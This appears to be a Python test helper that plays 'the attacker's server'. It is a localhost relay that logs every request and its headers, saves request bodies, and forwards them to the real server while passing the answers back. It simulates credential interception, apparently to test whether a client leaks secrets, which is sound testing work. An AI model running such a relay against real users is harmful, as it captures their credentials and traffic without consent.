"""The attacker's server: ``thief.py FOLDER URL``. Keeps what it is sent, and tries it at the real server.

Its port is in FOLDER/port. It answers what the real server answered to the same request, its own Host, and all else
that it was sent. Ends with whoever started it.
"""

import sys
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

FOLDER, URL = Path(sys.argv[1]), sys.argv[2].rstrip("/")
OWN = {"host", "connection", "content-length", "proxy-connection", "accept-encoding"}
PATIENCE_S = 15


class Thief(BaseHTTPRequestHandler):
    def serve(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        with (FOLDER / "log").open("a") as log:
            log.write(f"ran: the thief was sent {self.requestline}\n{self.headers}\n")
        (FOLDER / "sent").write_bytes(body)
        at = urlsplit(self.path)  # a proxy is told the whole address
        path = at.path + (f"?{at.query}" if at.query else "")
        sent = {name: value for name, value in self.headers.items() if name.lower() not in OWN}
        self.answer(urllib.request.Request(URL + path, body or None, sent, method=self.command))  # noqa: S310 - as the test says

    def answer(self, request: urllib.request.Request) -> None:
        try:
            with urllib.request.urlopen(request, timeout=PATIENCE_S) as answer:  # noqa: S310 - the same
                status, kind, text = answer.status, answer.headers.get_content_type(), answer.read()
        except urllib.error.HTTPError as error:
            status, kind, text = error.code, error.headers.get_content_type(), error.read()
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    do_GET = do_POST = do_PUT = do_HEAD = serve  # noqa: N815 - the library's names

    def log_message(self, *_: object) -> None:
        pass


server = ThreadingHTTPServer(("127.0.0.1", 0), Thief)
(FOLDER / "port.next").write_text(str(server.server_port))
(FOLDER / "port.next").rename(FOLDER / "port")
server.serve_forever()
